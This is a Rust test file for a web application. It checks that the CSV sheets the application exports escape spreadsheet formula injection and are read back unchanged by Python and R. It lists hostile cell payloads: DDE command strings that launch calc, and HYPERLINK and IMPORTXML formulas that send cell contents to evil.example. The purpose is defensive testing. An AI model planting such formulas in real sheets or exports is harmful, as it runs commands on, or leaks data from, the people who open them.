//! No sheet that the program gives out has a cell that a spreadsheet would
//! run, whatever was typed.

use std::{fs, path::Path, process::Command};

use axum::http::Method;
use tempfile::TempDir;

use crate::{
    hostile::{fill, is_full},
    story::Story,
};

/// Beginnings of cells that spreadsheets run, or once did.
const FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\",\"=2+2",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-3",
    "+441632960417",
];

#[tokio::test(flavor = "multi_thread")]
async fn formula_corpus() {
    for story in Story::both().await {
        is_full(&story).await;
        let (mut cells, mut made_safe) = (0, 0);
        for formula in FORMULAS {
            fill(&story, &[formula], 0).await;
            for (name, text) in sheets(&story).await {
                let text = text.trim_start_matches('\u{feff}');
                let mut rows = csv::ReaderBuilder::new()
                    .has_headers(false)
                    .flexible(true)
                    .from_reader(text.as_bytes());
                for row in rows.records() {
                    for cell in row.unwrap().iter() {
                        cells += 1;
                        made_safe += usize::from(cell.starts_with('\'') && cell[1..] == **formula);
                        let runs = cell.starts_with([
                            '=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠',
                        ]);
                        let number = cell.parse::<i64>().is_ok() && cell != *formula;
                        assert!(!runs || number, "{name} has the cell {cell:?}");
                    }
                }
            }
        }
        println!("formula_corpus: {cells} cells, {made_safe} made safe");
        assert!(made_safe > FORMULAS.len() * 20, "{made_safe}");
    }
}

/// Prints the cells of each sheet of a folder, in hexadecimal.
const IN_PYTHON: &str = "import csv, glob, sys
csv.field_size_limit(10**9)
for path in sorted(glob.glob(sys.argv[1] + '/*.csv')):
    with open(path, newline='', encoding='utf-8-sig') as file:
        for row in csv.reader(file):
            print(' '.join(cell.encode().hex() + '.' for cell in row))
";
const IN_R: &str = "for (path in sort(Sys.glob(file.path(commandArgs(TRUE)[1], '*.csv')))) {
    sheet <- read.csv(path, header = FALSE, colClasses = 'character', na.strings = character(),
        fileEncoding = 'UTF-8-BOM', encoding = 'UTF-8', blank.lines.skip = FALSE, fill = FALSE)
    hex <- function(cell) paste0(paste(charToRaw(enc2utf8(cell)), collapse = ''), '.')
    for (row in seq_len(nrow(sheet)))
        cat(paste(vapply(sheet[row, ], hex, ''), collapse = ' '), '\n', sep = '')
}";

/// What a program reads of the sheets; none where it is not here.
fn read_by(program: &str, arguments: &[&str], folder: &Path) -> Option<Vec<String>> {
    let mut command = Command::new(program);
    command.args(arguments).arg(folder).env("LC_ALL", "C.UTF-8");
    let Ok(read) = command.output() else {
        println!("skipped: {program} is not here");
        return None;
    };
    let said = String::from_utf8_lossy(&read.stderr);
    assert!(read.status.success(), "{program}: {said}");
    let read = String::from_utf8(read.stdout).unwrap();
    Some(read.lines().map(str::to_owned).collect())
}

/// What we write is what others read: cell by cell, whatever was typed.
#[tokio::test(flavor = "multi_thread")]
async fn sheets_are_read_by_python_and_by_r_as_they_were_written() {
    let story = Story::one().await;
    is_full(&story).await;
    for formula in [
        FORMULAS[0],
        FORMULAS[1],
        FORMULAS[6],
        FORMULAS[7],
        "a, b; 'c' \"d\" é – 日本",
    ] {
        fill(&story, &[formula], 0).await;
        let folder = TempDir::new().unwrap();
        let mut sheets = sheets(&story).await;
        sheets.sort();
        let mut ours = Vec::new();
        for (nth, (_, text)) in sheets.iter().enumerate() {
            fs::write(folder.path().join(format!("{nth:04}.csv")), text).unwrap();
            let mut rows = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            ours.extend(rows.records().map(|row| {
                let cells = row.unwrap();
                let hex = cells.iter().map(|cell| {
                    let hex: String = cell.bytes().map(|byte| format!("{byte:02x}")).collect();
                    hex + "."
                });
                hex.collect::<Vec<_>>().join(" ")
            }));
        }
        assert!(ours.len() > 200, "{}", ours.len());
        for (program, arguments) in [("python3", ["-c", IN_PYTHON]), ("Rscript", ["-e", IN_R])] {
            let Some(theirs) = read_by(program, &arguments, folder.path()) else {
                continue;
            };
            let other = ours
                .iter()
                .zip(&theirs)
                .find(|(ours, theirs)| ours != theirs);
            assert_eq!(other, None, "{program} reads {formula} otherwise");
            assert_eq!(ours.len(), theirs.len(), "{program}");
        }
    }
}

/// Every sheet the program gives out: those with an address, and the files of
/// the scheme's records.
async fn sheets(story: &Story) -> Vec<(String, String)> {
    let mut all = story.kept().await;
    let world = &story.world;
    for who in [world.rita, world.mo] {
        let mut browser = world.signed_in(who).await;
        let objects = story.objects(story.mary).await;
        for route in kith::router::routes().list() {
            if route.method != "GET" || !route.path.ends_with(".csv") {
                continue;
            }
            let address = objects.address(route.path).unwrap();
            let sent = browser.send(Method::GET, &address, None).await;
            if sent.status == 200 {
                assert!(
                    sent.headers["content-disposition"]
                        .as_bytes()
                        .starts_with(b"attachment"),
                    "{address} would be shown by the browser"
                );
                all.push((address, sent.text()));
            }
        }
    }
    all.retain(|(name, _)| name.ends_with(".csv"));
    assert!(all.len() > 25, "{}", all.len());
    all
}
